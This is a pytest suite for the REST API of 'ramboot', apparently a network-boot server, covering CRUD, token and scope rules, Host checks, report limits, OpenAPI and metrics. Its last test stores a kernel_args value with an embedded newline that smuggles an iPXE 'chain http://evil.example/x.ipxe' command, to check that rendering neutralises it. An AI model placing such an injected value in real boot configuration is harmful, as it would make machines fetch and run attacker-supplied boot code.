"""The REST API over real HTTP: CRUD, access rules, node reports, discover mode, OpenAPI, metrics, SSE."""

from __future__ import annotations

import http.client
import json
import re
import time
import urllib.request
from datetime import datetime
from pathlib import Path
from unittest import mock

import pytest
from aiohttp import web
from aiohttp.test_utils import make_mocked_request

from conftest import write_fake_image
from httpserver import LiveServer
from ramboot.config import parse_config
from ramboot.inventory.store import EventRecord, LeaseRecord
from ramboot.proto.dhcp_core import lease_key
from ramboot.server import api
from ramboot.server.http_context import CTX, Ctx

MAC = "52:54:00:aa:bb:01"
TOKEN = "s3cret-token"
INVENTORY = {
    "cpu": {"model": "QEMU Virtual CPU", "count": 2},
    "memory_kib": 1024000,
    "nics": [{"name": "eth0", "mac": MAC, "speed_mbps": 1000}],
    "disks": [],
    "dmi": {"vendor": "QEMU", "product": "Standard PC", "serial": "", "uuid": "12345678-1234-1234-1234-1234567890ab"},
}


@pytest.fixture
def srv(data_dir: Path):
    write_fake_image(data_dir, "demo")
    s = LiveServer(data_dir, f'[api]\ntoken = "{TOKEN}"\n')
    yield s
    s.close()


def wait_for(pred, timeout: float = 5.0):
    deadline = time.time() + timeout
    while time.time() < deadline:
        v = pred()
        if v:
            return v
        time.sleep(0.05)
    raise AssertionError("condition not met in time")


def test_node_crud(srv):
    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo", "hostname": "n1", "ip": "172.22.33.50"}, TOKEN)
    assert st == 201, body
    assert body["mac"] == MAC and body["hostname"] == "n1" and body["last_boot"] is None
    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC.upper()}", {"image": "demo", "loader": "pxelinux"}, TOKEN)
    assert st == 200 and body["loader"] == "pxelinux" and body["hostname"] is None
    st, body = srv.request("POST", "/api/v1/nodes", {"mac": "52-54-00-aa-bb-02", "image": "demo"}, TOKEN)
    assert st == 201 and body["mac"] == "52:54:00:aa:bb:02"
    st, body = srv.request("POST", "/api/v1/nodes", {"mac": "52-54-00-aa-bb-02", "image": "demo"}, TOKEN)
    assert st == 409 and "exists" in body["error"]
    st, body = srv.request("GET", "/api/v1/nodes")
    assert st == 200 and [n["mac"] for n in body] == [MAC, "52:54:00:aa:bb:02"]
    st, body = srv.request("DELETE", f"/api/v1/nodes/{MAC}", token=TOKEN)
    assert st == 204
    st, body = srv.request("GET", f"/api/v1/nodes/{MAC}")
    assert st == 404 and body == {"error": f"no node {MAC}"}


def test_patch_is_a_json_merge_patch_and_nodes_say_what_they_boot(srv):
    st, _ = srv.request("PUT", "/api/v1/profiles/compute", {"image": "demo", "kernel_args": "quiet"}, TOKEN)
    assert st == 201
    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"hostname": "n1", "profiles": ["compute"],
                                                          "labels": {"rack": "a1"}}, TOKEN)
    assert st == 201 and body["effective"]["image"] == "demo" and body["effective"]["image_from"] == "profile:compute"
    merge = {"Content-Type": "application/merge-patch+json"}
    st, body = srv.request("PATCH", f"/api/v1/nodes/{MAC.replace(':', '-')}",
                           {"hostname": None, "ip": "172.22.33.61", "labels": {"row": "3"}}, TOKEN, merge)
    assert st == 200, body
    assert body["hostname"] is None and body["ip"] == "172.22.33.61" and body["profiles"] == ["compute"]
    assert body["labels"] == {"rack": "a1", "row": "3"}
    assert body["effective"] == {"image": "demo", "image_from": "profile:compute", "loader": "ipxe",
                                 "kernel_args": body["effective"]["kernel_args"], "ip": "172.22.33.61",
                                 "ip_from": "fixed", "lease_expires": None, "profiles": ["compute"],
                                 "last_seen": None, "last_boot": None, "bmc": None}
    assert body["effective"]["kernel_args"].endswith("quiet")
    st, body = srv.request("PATCH", f"/api/v1/nodes/{MAC}", {"image": "demo"}, TOKEN)  # plain JSON too
    assert st == 200 and body["effective"]["image_from"] == "node"
    st, [listed] = srv.request("GET", "/api/v1/nodes", token=TOKEN)
    assert listed["effective"] == body["effective"]
    for patch, status, fragment in (({"hostname": "no_underscores"}, 400, "hostname: a hostname is labels"),
                                    ({"profiles": ["nosuch"]}, 400, "no profile 'nosuch'"),
                                    ({"mac": "52:54:00:aa:bb:09"}, 400, "mac: unknown field")):
        st, err = srv.request("PATCH", f"/api/v1/nodes/{MAC}", patch, TOKEN)
        assert st == status and fragment in err["error"], err
    st, err = srv.request("PATCH", "/api/v1/nodes/52:54:00:aa:bb:09", {"image": "demo"}, TOKEN)
    assert st == 404 and err == {"error": "no node 52:54:00:aa:bb:09"}
    st, _ = srv.request("PATCH", f"/api/v1/nodes/{MAC}", {"image": "demo"}, TOKEN, {"Content-Type": "text/plain"})
    assert st == 415
    st, _ = srv.request("PATCH", f"/api/v1/nodes/{MAC}", {"image": "demo"}, None)
    assert st == 401


def test_api_times_are_iso_8601_with_a_timezone(srv):
    srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, TOKEN)
    now = time.time()
    srv.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.150", mac=MAC, expires=now + 60)])
    srv.store.events.add([EventRecord(MAC, "dhcp-ack", now, detail={"ip": "172.22.33.150"})])
    st, node = srv.request("GET", f"/api/v1/nodes/{MAC}", token=TOKEN)
    _, events = srv.request("GET", f"/api/v1/nodes/{MAC}/events", token=TOKEN)
    _, leases = srv.request("GET", "/api/v1/leases", token=TOKEN)
    times = [node["updated"], node["effective"]["lease_expires"], node["effective"]["last_seen"],
             events[0]["at"], leases[0]["expires"]]
    for t in times:
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?\+00:00", t), t
    assert abs(datetime.fromisoformat(node["effective"]["lease_expires"]).timestamp() - (now + 60)) < 0.01
    assert node["effective"]["ip"] == "172.22.33.150" and node["effective"]["ip_from"] == "lease"


@pytest.mark.parametrize(
    "method,path,body,status,fragment",
    [
        ("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo", "colour": "red"}, 400, "colour: unknown field"),
        ("PUT", f"/api/v1/nodes/{MAC}", {"ip": "300.1.1.1"}, 400, "ip:"),
        ("PUT", f"/api/v1/nodes/{MAC}", {"loader": "lilo"}, 400, "loader:"),
        ("PUT", "/api/v1/nodes/zz:zz", {"image": "demo"}, 400, "not a MAC address"),
        ("POST", "/api/v1/nodes", {"image": "demo"}, 400, "mac:"),
        ("GET", "/api/v1/nope", None, 404, "no such API endpoint"),
        ("DELETE", "/api/v1/images", None, 405, "not allowed"),
        ("GET", "/api/v1/images/nope", None, 404, "no image nope"),
        ("GET", f"/api/v1/nodes/{MAC}/events?limit=x", None, 400, "limit"),
    ],
)
def test_errors_are_json(srv, method, path, body, status, fragment):
    st, got = srv.request(method, path, body, TOKEN)
    assert st == status and fragment in got["error"], got


def test_malformed_json_body(srv):
    req = urllib.request.Request(f"{srv.base}/api/v1/nodes/{MAC}", data=b"{not json", method="PUT")
    req.add_header("Authorization", f"Bearer {TOKEN}")
    req.add_header("Content-Type", "application/json")
    with pytest.raises(urllib.error.HTTPError) as e:
        urllib.request.urlopen(req, timeout=5)
    assert e.value.code == 400 and "error" in json.loads(e.value.read())


def test_write_without_token_refused(srv):
    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, token=None)
    assert st == 401 and "bearer" in body["error"]
    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, "wrong-token")
    assert st == 401 and body["error"] == "wrong bearer token"  # RFC 6750 §3.1: invalid_token is 401
    st, body = srv.request("DELETE", f"/api/v1/nodes/{MAC}", token=None)
    assert st == 401
    assert srv.store.nodes.get(MAC) is None
    assert srv.request("GET", "/api/v1/nodes", token=None)[0] == 401  # reads need a token by default


def test_reads_need_a_token_by_default(data_dir):
    s = LiveServer(data_dir, f'[api]\ntoken = "{TOKEN}"\n')
    try:
        for path in ("/api/v1/nodes", "/api/v1/leases", "/api/v1/status", "/api/v1/openapi.json"):
            st, body = s.request("GET", path, token=None)
            assert st == 401 and "missing bearer token" in body["error"], (path, body)
        assert s.request("GET", "/api/v1/nodes", token=TOKEN)[0] == 200
        # a token in the URL only for the event stream (EventSource sends no headers)
        st, body = s.request("GET", f"/api/v1/status?access_token={TOKEN}")
        assert st == 400 and "only by GET /events/stream" in body["error"]
        with urllib.request.urlopen(f"{s.base}/api/v1/events/stream?access_token={TOKEN}", timeout=5) as r:
            assert r.status == 200 and r.readline().startswith(b"retry:")
        # node reports need no token even then
        assert s.report(MAC, "events", {"stage": "initramfs"})[0] == 202
    finally:
        s.close()


def test_read_requires_token_false_opens_reads_not_writes(data_dir):
    write_fake_image(data_dir, "demo")
    s = LiveServer(data_dir, f'[api]\ntoken = "{TOKEN}"\nread_requires_token = false\n')
    try:
        assert s.request("GET", "/api/v1/nodes", token=None)[0] == 200
        assert s.request("GET", "/api/v1/leases", token=None)[0] == 200
        with urllib.request.urlopen(f"{s.base}/metrics", timeout=5) as r:
            assert r.status == 200 and b"ramboot_" in r.read()
        assert s.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, token=None)[0] == 401
        assert s.store.nodes.get(MAC) is None
    finally:
        s.close()


READ_TOKEN = "read-only-token"


def test_the_read_token_reads_and_cannot_write(data_dir):
    write_fake_image(data_dir, "demo")
    s = LiveServer(data_dir, f'[api]\ntoken = "{TOKEN}"\nread_token = "{READ_TOKEN}"\n')
    try:
        assert s.request("GET", "/api/v1/nodes", token=READ_TOKEN)[0] == 200
        assert s.request("GET", f"/api/v1/nodes/{MAC}", token=READ_TOKEN)[0] == 404
        with urllib.request.urlopen(f"{s.base}/api/v1/events/stream?access_token={READ_TOKEN}", timeout=5) as r:
            assert r.status == 200 and r.readline().startswith(b"retry:")
        req = urllib.request.Request(f"{s.base}/metrics", headers={"Authorization": f"Bearer {READ_TOKEN}"})
        with urllib.request.urlopen(req, timeout=5) as r:
            assert r.status == 200
        for method, path, body in [("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}),
                                   ("POST", "/api/v1/nodes", {"mac": MAC, "image": "demo"}),
                                   ("PUT", "/api/v1/profiles/p1", {"image": "demo"}),
                                   ("DELETE", f"/api/v1/nodes/{MAC}", None)]:
            st, got = s.request(method, path, body, token=READ_TOKEN)
            assert st == 403 and "read token cannot write" in got["error"], (method, path, got)
        assert s.store.nodes.get(MAC) is None and s.store.profiles.get("p1") is None
        assert s.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, token=TOKEN)[0] == 201
    finally:
        s.close()


def _mocked(remote: str, method: str, cfg_extra: str, headers: dict | None = None):
    app = web.Application()
    cfg = parse_config(cfg_extra)
    app[CTX] = Ctx(cfg, None, None, None, None)  # type: ignore[arg-type]
    app[api.SERVER_NAMES] = api.server_names(cfg, "172.22.33.2")
    transport = mock.Mock()
    transport.get_extra_info.side_effect = lambda k, d=None: (remote, 40000) if k == "peername" else d
    return make_mocked_request(method, "/api/v1/nodes/x", headers=headers or {}, app=app, transport=transport)


def test_loopback_is_no_exception():
    """Old rule: no token configured meant loopback could write. Now a token is needed from anywhere."""
    for remote in ("127.0.0.1", "::1", "172.22.33.100"):
        with pytest.raises(api.ApiError) as e:
            api.authorize(_mocked(remote, "PUT", ""), "write")
        assert e.value.status == 401
        with pytest.raises(api.ApiError) as e:
            api.authorize(_mocked(remote, "GET", ""), "read")
        assert e.value.status == 401
    api.authorize(_mocked("172.22.33.100", "POST", ""), "node")
    req = _mocked("172.22.33.100", "PUT", '[api]\ntoken = "t0123456"\n', {"Authorization": "Bearer t0123456"})
    api.authorize(req, "write")


@pytest.mark.parametrize("host,ok", [
    ("172.22.33.2", True), ("172.22.33.2:8080", True), ("localhost", True), ("LOCALHOST:80", True),
    ("127.0.0.1:80", True), ("[::1]:80", True), ("[::1]", True), ("evil.example", False),
    ("evil.example:80", False), ("172.22.33.2.evil.example", False), ("ops.example.", True),
])
def test_host_names_this_server(host, ok):
    cfg = '[api]\ntoken = "t0123456"\nallowed_hosts = ["ops.example"]\n'
    req = _mocked("172.22.33.100", "GET", cfg, {"Host": host, "Authorization": "Bearer t0123456"})
    if ok:
        api.authorize(req, "read")
    else:
        with pytest.raises(api.ApiError) as e:
            api.authorize(req, "read")
        assert e.value.status == 403 and "not a name of this server" in e.value.message


def test_node_reports_checked_against_lease(data_dir):
    """Full mode: the address holding the MAC's hardware lease reports (access.py); another
    address, or a lease that another client id took for the MAC's chaddr, does not."""
    write_fake_image(data_dir, "demo")
    s = LiveServer(data_dir, '[dhcp]\nmode = "full"\nrange = "172.22.33.100-172.22.33.200"\n')
    try:
        s.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.101", mac=MAC, expires=time.time() + 600)])
        st, body = s.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=None)
        assert st == 403 and "does not hold" in body["error"]
        assert s.request("POST", f"/api/v1/nodes/{MAC}/inventory", INVENTORY, token=None)[0] == 403
        s.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="127.0.0.1", mac=MAC, expires=time.time() + 600)])
        assert s.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=None)[0] == 202
        other = "52:54:00:aa:bb:09"  # a lease another client id took for this chaddr is not the machine's
        s.store.leases.save([LeaseRecord(key=lease_key("ff01", other), ip="127.0.0.1", mac=other, client_id="ff01",
                                         expires=time.time() + 600)])
        assert s.request("POST", f"/api/v1/nodes/{other}/events", {"stage": "initramfs"}, token=None)[0] == 403
    finally:
        s.close()


@pytest.mark.parametrize(
    "body,fragment",
    [
        ({"stage": "dhcp-ack"}, "recorded by the server"),
        ({"stage": "Bad Stage"}, "stage:"),
        ({"stage": "verified", "detail": {"mac": "x"}}, "reserved key"),
        ({"stage": "verified", "extra": 1}, "unknown field"),
    ],
)
def test_bad_node_events(srv, body, fragment):
    st, got = srv.report(MAC, "events", body)
    assert st == 400 and fragment in got["error"]


def post_boot(srv, mac: str, gap: float = 0.0) -> None:
    """A boot as the server and the node record it; server stages go through the event log."""
    for stage, detail in [("dhcp-offer", {}), ("dhcp-ack", {"ip": "127.0.0.1"}), ("script", {}), ("kernel", {}), ("initrd", {})]:
        srv.run(lambda s=stage, d=detail: srv.events.record(mac, s, **d))
        time.sleep(gap)
    for stage, detail in [
        ("initramfs", {}),
        ("download-start", {"url": "http://x/rootfs.squashfs"}),
        ("download-done", {"url": "http://x/rootfs.squashfs", "bytes": 50_000_000, "seconds": 0.5}),
        ("verified", {"sha256": "ab" * 32}),
        ("switch-root", {}),
        ("booted", {}),
    ]:
        st, _ = srv.report(mac, "events", {"stage": stage, "detail": detail})
        assert st == 202
        time.sleep(gap)


def test_boot_timeline_inventory_and_discover(data_dir):
    write_fake_image(data_dir, "demo")
    s = LiveServer(data_dir, '[boot]\nunknown_nodes = "discover"\ndefault_image = "demo"\n')
    try:
        post_boot(s, MAC)
        assert s.report(MAC, "inventory", INVENTORY)[0] == 202
        node = wait_for(lambda: s.request("GET", f"/api/v1/nodes/{MAC}")[1] if s.request("GET", f"/api/v1/nodes/{MAC}")[0] == 200 else None)
        assert node["discovered"] is True and node["image"] == "demo"
        assert node["uuid"] == "12345678-1234-1234-1234-1234567890ab"
        assert node["inventory"]["report"]["cpu"] == {"model": "QEMU Virtual CPU", "count": 2}
        # events reach the store in batches (every 0.2 s): wait for the whole boot, not its first events
        last_boot = lambda: s.request("GET", f"/api/v1/nodes/{MAC}")[1]["last_boot"]  # noqa: E731
        boot = wait_for(lambda: (b := last_boot()) and b["stage"] == "booted" and b)
        assert boot["stage"] == "booted"
        assert [e["stage"] for e in boot["events"]][:3] == ["dhcp-offer", "dhcp-ack", "script"]
        assert boot["download_mbps"] == pytest.approx(800.0)
        assert boot["duration"] is not None and boot["duration"] >= 0
        st, rows = s.request("GET", "/api/v1/status")
        assert [r["mac"] for r in rows] == [MAC] and rows[0]["last_boot"]["stage"] == "booted"
        st, invs = s.request("GET", f"/api/v1/nodes/{MAC}/inventory")
        assert st == 200 and invs[0]["report"]["memory_kib"] == 1024000
        st, evs = s.request("GET", f"/api/v1/nodes/{MAC}/events?limit=3")
        assert [e["stage"] for e in evs] == ["verified", "switch-root", "booted"]
        # an operator taking the node over clears "discovered"
        assert s.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"})[1]["discovered"] is False
    finally:
        s.close()


def test_boot_mode_does_not_register(srv):
    assert srv.request("GET", f"/api/v1/nodes/{MAC}")[0] == 404  # nothing known of it yet
    assert srv.report(MAC, "inventory", INVENTORY)[0] == 202
    st, node = srv.request("GET", f"/api/v1/nodes/{MAC}")  # seen, not registered: still in the inventory
    assert st == 200 and node["state"] == "seen" and node["inventory"]["report"]["cpu"]["count"] == 2, node
    st, nodes = srv.request("GET", "/api/v1/nodes")
    assert [(n["mac"], n["state"]) for n in nodes] == [(MAC, "seen")]
    assert srv.request("GET", f"/api/v1/nodes/{MAC}/inventory")[0] == 200


def test_images_and_leases(srv):
    st, imgs = srv.request("GET", "/api/v1/images")
    assert st == 200 and [i["name"] for i in imgs] == ["demo"]
    assert {f["name"] for f in imgs[0]["files"]} == {"vmlinuz", "initrd.img", "rootfs.squashfs"}
    st, img = srv.request("GET", "/api/v1/images/demo")
    assert st == 200 and img == imgs[0]
    srv.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.150", mac=MAC, expires=time.time() + 60)])
    st, leases = srv.request("GET", "/api/v1/leases")
    assert leases == [{"ip": "172.22.33.150", "mac": MAC, "expires": pytest.approx(leases[0]["expires"]), "active": True, "client_id": None, "hostname": None}]


def test_openapi_document(srv):
    st, doc = srv.request("GET", "/api/v1/openapi.json")
    assert st == 200 and doc["openapi"].startswith("3.1")
    schemas = doc["components"]["schemas"]

    def refs(o):
        if isinstance(o, dict):
            for k, v in o.items():
                if k == "$ref":
                    yield v
                else:
                    yield from refs(v)
        elif isinstance(o, list):
            for v in o:
                yield from refs(v)

    for r in refs(doc):
        assert r.startswith("#/components/schemas/") and r.rsplit("/", 1)[1] in schemas, r
    for path, ops in doc["paths"].items():
        for method, op in ops.items():
            assert method in ("get", "put", "patch", "post", "delete")
            assert op["responses"] and op["operationId"]
            declared = {p["name"] for p in op.get("parameters", []) if p["in"] == "path"}
            assert declared == set(re.findall(r"\{(\w+)\}", path)), path
    # the document describes exactly the routes the running server has registered
    assert registered_api_routes(srv) == {(m.upper(), p) for p, ops in doc["paths"].items() for m in ops}
    assert set(schemas["NodeIn"]["properties"]) >= {"image", "hostname", "ip", "loader", "kernel_args", "labels"}
    assert schemas["InventoryReport"]["properties"]["memory_kib"]["type"] == "integer"


DOCS = Path(__file__).resolve().parent.parent / "docs" / "api.md"


def registered_api_routes(srv) -> set[tuple[str, str]]:
    """(METHOD, path) of every API route on the live server's aiohttp router, the catch-all left out."""
    out = set()
    for route in srv.server.runner.app.router.routes():
        path = route.resource.canonical if route.resource is not None else ""
        if path.startswith(api.PREFIX + "/") and route.method != "*":
            out.add((route.method, path))
    return out


def documented_api_routes() -> set[tuple[str, str]]:
    """(METHOD, path) from the endpoint table of docs/api.md, written by hand for people."""
    text = DOCS.read_text()
    table = text.split("## Endpoints (`/api/v1`)", 1)[1].split("\n## ", 1)[0]
    out = set()
    for line in table.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) < 2 or cells[0] not in ("GET", "POST", "PUT", "PATCH", "DELETE"):
            continue
        for p in re.findall(r"`(/[^`]*)`", cells[1]):
            out.add((cells[0], api.PREFIX + p.split("?", 1)[0]))
    return out


def test_documented_routes_are_the_registered_ones(srv):
    """docs/api.md, the aiohttp router and the server's behaviour agree, route by route."""
    documented, registered = documented_api_routes(), registered_api_routes(srv)
    assert len(documented) >= 15, documented
    assert documented == registered, {"only documented": documented - registered, "only registered": registered - documented}
    for method, path in sorted(documented):
        url = path.replace("{mac}", MAC).replace("{name}", "demo")
        conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10)
        try:
            conn.request(method, url, body=b"{}" if method in ("POST", "PUT") else None,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            body = b"" if "stream" in url else resp.read()
        finally:
            conn.close()
        # whatever the handler says (401 without the token, 404 for an unknown node), it is not the catch-all's
        assert not (resp.status == 404 and b"no such API endpoint" in body), (method, url, body)
        assert not (resp.status == 405 and b"is not allowed here" in body), (method, url, body)


def scrape(srv) -> dict[str, float]:
    req = urllib.request.Request(f"{srv.base}/metrics", headers={"Authorization": f"Bearer {srv.token}"})
    with urllib.request.urlopen(req, timeout=5) as r:
        text = r.read().decode()
    out = {}
    for line in text.splitlines():
        if line and not line.startswith("#"):
            k, v = line.rsplit(" ", 1)
            out[k] = float(v)
    return out


def test_metrics_show_the_boot(srv):
    before = scrape(srv)
    post_boot(srv, MAC)
    urllib.request.urlopen(f"{srv.base}/images/demo/vmlinuz", timeout=5).read()
    key = "ramboot_boot_duration_seconds_count"
    after = wait_for(lambda: (m := scrape(srv)) and m.get(key, 0) > before.get(key, 0) and m)
    d = lambda k: after.get(k, 0) - before.get(k, 0)  # noqa: E731
    assert d('ramboot_boots_total{stage="booted"}') == 1
    assert d('ramboot_boots_total{stage="dhcp-ack"}') == 1
    assert d("ramboot_root_download_mbps_count") == 1
    assert d("ramboot_root_download_mbps_sum") == pytest.approx(800.0)
    assert d('ramboot_http_bytes_total{kind="kernel"}') == len(b"kernel")
    assert d("ramboot_boot_duration_seconds_count") == 1


def test_sse_stream_follows_a_boot(srv):
    conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10)
    conn.request("GET", "/api/v1/events/stream", headers={"Authorization": f"Bearer {srv.token}"})
    resp = conn.getresponse()
    assert resp.status == 200 and resp.getheader("Content-Type").startswith("text/event-stream")
    assert resp.readline().startswith(b"retry:")
    post_boot(srv, MAC)
    stages = []
    deadline = time.time() + 10
    while time.time() < deadline and "booted" not in stages:
        line = resp.readline()
        if line.startswith(b"data: "):
            row = json.loads(line[6:])
            assert row["mac"] == MAC
            stages.append(row["last_boot"]["stage"])
    conn.close()
    assert stages[-1] == "booted"


# -- issue 13: the API's access rules, body limits and report rate, over real HTTP ----------------------
def curl_i(srv, method: str, path: str, *args: str) -> tuple[int, dict[str, str], str]:
    """One request with curl: status, headers (lower-cased names), body."""
    import subprocess

    out = subprocess.run(["curl", "-s", "-i", "-X", method, *args, srv.base + path], capture_output=True,
                         timeout=20).stdout.decode()
    head, _, body = out.partition("\r\n\r\n")
    lines = head.split("\r\n")
    headers = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
    return int(lines[0].split()[1]), headers, body


@pytest.mark.parametrize("method,path,body", [
    ("POST", "/api/v1/nodes", {"mac": "52:54:00:aa:bb:03", "image": "demo"}),
    ("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}),
    ("DELETE", f"/api/v1/nodes/{MAC}", None),
])
def test_every_write_needs_the_token_and_a_refusal_says_how(srv, method, path, body):
    data = ["-H", "Content-Type: application/json", "-d", json.dumps(body)] if body else []
    st, h, text = curl_i(srv, method, path, *data)
    assert st == 401 and h.get("www-authenticate") == 'Bearer realm="ramboot"', (st, h, text)
    st, h, _ = curl_i(srv, method, path, "-H", "Authorization: Bearer nope", *data)
    assert st == 401 and h["www-authenticate"] == 'Bearer realm="ramboot", error="invalid_token"'
    # never from the URL, even with the right token
    st, h, text = curl_i(srv, method, f"{path}?access_token={TOKEN}", *data)
    assert st == 400 and "error=\"invalid_request\"" in h["www-authenticate"], text
    st, h, text = curl_i(srv, method, f"{path}?access_token={TOKEN}", "-H", f"Authorization: Bearer {TOKEN}", *data)
    assert st == 400, text
    assert srv.store.nodes.get("52:54:00:aa:bb:03") is None
    st, _, text = curl_i(srv, method, path, "-H", f"Authorization: Bearer {TOKEN}", *data)
    assert st in (200, 201, 204, 404), text


def test_the_read_token_writing_gets_insufficient_scope():
    cfg = '[api]\ntoken = "t0123456"\nread_token = "r0123456"\n'
    with pytest.raises(api.ApiError) as e:
        api.authorize(_mocked("172.22.33.100", "POST", cfg, {"Authorization": "Bearer r0123456"}), "write")
    assert e.value.status == 403 and 'error="insufficient_scope"' in e.value.headers["WWW-Authenticate"]


def test_request_bodies_have_a_size_limit(srv):
    big = {"stage": "verified", "detail": {"pad": "x" * (70 << 10)}}  # over max_report_kib = 64
    st, body = srv.report(MAC, "events", big)
    assert st == 413 and "64 KiB" in body["error"]
    st, body = srv.report(MAC, "inventory", {**INVENTORY, "pad": "y" * (70 << 10)})
    assert st == 413
    # chunked, with no Content-Length: the limit holds while reading
    import subprocess

    out = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Transfer-Encoding: chunked",
                          "-H", f"Authorization: Bearer {srv.tokens[MAC]}",
                          "-H", "Content-Type: application/json", "--data-binary", json.dumps(big),
                          f"{srv.base}/api/v1/nodes/{MAC}/events"], capture_output=True, text=True, timeout=20)
    assert out.stdout == "413"
    # an operator's write gets the general limit (1 MiB), not the report one
    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo", "labels": {"k": "v" * (100 << 10)}}, TOKEN)
    assert st != 413, body
    st, body = srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo", "labels": {"k": "v" * (1100 << 10)}}, TOKEN)
    assert st == 413


def test_reports_are_rate_limited_per_source(data_dir):
    write_fake_image(data_dir, "demo")
    s = LiveServer(data_dir, "[api]\nreport_rate = 2\nreport_burst = 5\n")
    try:
        codes = [s.report(MAC, "events", {"stage": "initramfs"})[0] for _ in range(8)]
        assert codes[:5] == [202] * 5 and set(codes[5:]) == {429}, codes
        st, h, text = curl_i(s, "POST", f"/api/v1/nodes/{MAC}/events", "-H", "Content-Type: application/json",
                             "-d", '{"stage": "initramfs"}')
        assert st == 429 and h["retry-after"] == "1" and "too many reports" in text
        time.sleep(1.1)  # 2 a second come back
        assert s.report(MAC, "events", {"stage": "initramfs"})[0] == 202
        # reads and operator writes are not reports: not limited
        assert s.request("GET", "/api/v1/nodes")[0] == 200
        m = scrape(s)
        assert m['ramboot_dropped_total{protocol="api",reason="rate-limited"}'] >= 4
    finally:
        s.close()


def test_report_limiter_buckets_are_per_source_and_bounded():
    lim = api.ReportLimiter(rate=1.0, burst=2, max_sources=3)
    assert [lim.take("a", 0.0) for _ in range(3)] == [0.0, 0.0, 1.0]
    assert lim.take("b", 0.0) == 0.0  # another source has its own bucket
    assert lim.take("a", 1.0) == 0.0  # refilled
    for i in range(10):
        lim.take(f"x{i}", 2.0)
    assert len(lim._buckets) == 3


def test_full_mode_report_for_a_mac_without_lease_is_refused(data_dir):
    write_fake_image(data_dir, "demo")
    s = LiveServer(data_dir, '[dhcp]\nmode = "full"\nrange = "10.99.0.100-10.99.0.150"\n')
    try:
        st, body = s.report(MAC, "events", {"stage": "initramfs"})
        assert st == 403 and "holds no lease of its own" in body["error"]
        s.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="127.0.0.1", mac=MAC, expires=time.time() + 60)])
        assert s.report(MAC, "events", {"stage": "initramfs"})[0] == 202
    finally:
        s.close()


def test_off_mode_reports_need_the_boots_credential(srv):
    """ramboot leases nothing in proxy/off mode, so an address proves nothing: a report
    carries the credential of the node's current boot (its script's ramboot.token=)."""
    st, body = srv.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=None)
    assert st == 403 and "credential" in body["error"]
    old = srv.node_token(MAC)
    assert srv.report(MAC, "events", {"stage": "initramfs"})[0] == 202  # a new boot: `old` is superseded
    assert srv.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=old)[0] == 403


def test_a_stored_newline_never_breaks_out_of_the_script_line(srv):
    """A kernel_args stored before inputs refused control characters (an old database) still
    renders on the kernel's line: the renderers turn control characters into spaces."""
    from ramboot.inventory.store import NodeSpec

    srv.store.nodes.put(NodeSpec(mac=MAC, image="demo", kernel_args="quiet\nchain http://evil.example/x.ipxe\r"))
    for path in (f"/boot/{MAC.replace(':', '-')}.ipxe", f"/pxelinux.cfg/01-{MAC.replace(':', '-')}"):
        with urllib.request.urlopen(srv.base + path, timeout=5) as r:
            text = r.read().decode()
        assert "quiet chain http://evil.example/x.ipxe" in text, text
        assert not any(ln.lstrip().startswith("chain") for ln in text.splitlines()) and "\r" not in text, text
